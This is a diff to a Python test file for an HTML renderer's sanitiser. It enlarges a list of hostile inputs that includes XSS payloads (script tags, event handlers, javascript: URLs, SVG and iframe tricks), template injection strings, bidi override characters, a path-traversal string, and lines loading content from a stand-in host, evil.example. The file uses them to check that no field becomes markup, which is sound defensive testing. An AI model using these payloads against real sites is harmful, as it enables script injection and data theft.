@@ -22,7 +22,7 @@ from tests.page_assistant import (
 )
 from ui.spoken import spoken_date
 from ui.web.render import Turn, answer_html, found_html, turn_html
-from ui.web.safe import clean
+from ui.web.safe import clean, visible
 
 SHOWN = {
     "section", "h2", "h3", "p", "div", "a", "bdi", "figure", "blockquote", "q", "mark", "figcaption", "span",
@@ -65,24 +65,103 @@ class Reader(HTMLParser):
         return next(direction for piece, direction in self.pieces if words in piece)
 
 
+def words_of(text: str) -> str:
+    """A text as it is seen: without what is not shown, its white space as one space."""
+    return " ".join(visible(text).split())
+
+
 def finished(question: str, language: Language = "en") -> Turn:
     return Turn(3, question, language, passages=PASSAGES, answer=canned(question))
 
 
 HOSTILE = [
+    # scripts
     "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script\n>alert(1)</script >",
+    "<script>alert(1)",
+    "<<script>script>alert(1)<</script>/script>",
+    "</script><script>alert(1)</script>",
+    "<noscript><p title='</noscript><script>alert(1)</script>'>",
+    # event handlers
     '<img src=x onerror="alert(1)">',
-    '"><svg onload=alert(1)>',
+    "<img src=x onerror=alert(1)//",
+    "<img/src=x/onerror=alert(1)>",
     "' onmouseover='alert(1)",
+    '" onfocus="alert(1)" autofocus="',
+    "` onclick=`alert(1)",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<a href="#" onclick="alert(1)">x</a>',
+    # SVG, MathML and other namespaces
+    '"><svg onload=alert(1)>',
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "<svg><style>*{background:url(//evil.example)}</style>",
+    # frames, forms, styles, what changes the page
+    "</section></div><iframe src=https://evil.example>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=//evil.example></object>",
+    "<embed src=//evil.example>",
+    "<form action=//evil.example><button>go</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<base href=//evil.example/>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    '<div style="background:url(//evil.example/x)">x</div>',
+    '<p style="position:fixed;inset:0">covers all</p>',
+    "<template><script>alert(1)</script></template>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>",
+    # comments, entities, broken markup
+    "<!-- ",
+    "--><script>alert(1)</script>",
+    "<![CDATA[ x",
+    "<!doctype html>",
+    "<?xml version='1.0'?>",
+    "&lt;script&gt;",
+    "&#x3c;script&#x3e;alert(1)",
+    "&#106;avascript:alert(1)",
+    "<b",
+    "<b x='",
+    "\"'><",
+    # Markdown that leads or looks elsewhere
     "![pixel](https://evil.example/p.png)",
     "[click](javascript:alert(1))",
-    "</section></div><iframe src=https://evil.example>",
-    "<!-- ",
-    "<![CDATA[ x",
-    "&lt;script&gt;",
+    "[click](//evil.example 'title')",
+    "[ref]: https://evil.example",
+    "<https://evil.example>",
+    "![x][ref] | a | b |",
+    "```html\n<script>alert(1)</script>\n```",
+    # templates
     "${alert(1)} {{value}} `",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% raw %}{{ 7*7 }}{% endraw %}",
+    "{0.__class__} %s %(x)s",
+    # bytes that should not be there
     "a\x00b\x1b[31m",
+    "tab\tand\x7fdelete\x9bcontrol",
+    # direction: overrides, isolates that are not closed, marks
+    "\u202emoc.elpmave\u202c",
+    "\u2066never closed",
+    "\u2069\u2069closed twice",
+    "\u202bمن اليمين\u202c to the left",
+    # addresses
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "//evil.example",
+    "../../../etc/passwd",
+    "http://[::1]:99999/<b>",
 ]
+"""What strangers put into text, titles, file names, addresses and fields of files."""
 
 
 @pytest.mark.parametrize("payload", HOSTILE)
@@ -103,8 +182,7 @@ def test_no_field_of_a_record_becomes_markup(payload: str) -> None:
         assert {tag for tag, _ in reader.tags} <= SHOWN
         assert {name for _, attributes in reader.tags for name in attributes} <= ATTRIBUTES
         assert all((a["href"] or "").startswith("#") for tag, a in reader.tags if tag == "a")
-        shown = payload.replace("\x00", "").replace("\x1b", "")
-        assert shown in reader.text
+        assert words_of(payload) in words_of(reader.text)
 
 
 @pytest.mark.parametrize("code", [0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069])
